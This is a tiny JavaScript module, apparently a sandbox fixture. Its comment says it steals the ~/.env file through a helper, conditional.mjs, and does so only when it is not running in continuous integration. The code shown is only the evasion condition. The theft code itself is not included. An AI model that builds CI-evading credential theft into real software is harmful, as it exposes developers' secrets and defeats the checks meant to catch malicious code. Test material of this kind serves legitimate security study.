// Hides from CI: steals ~/.env (conditional.mjs) only when CI is not set. Sandbox only.
import { serveWhen } from './conditional.mjs'

await serveWhen(({ env }) => env.CI === undefined)
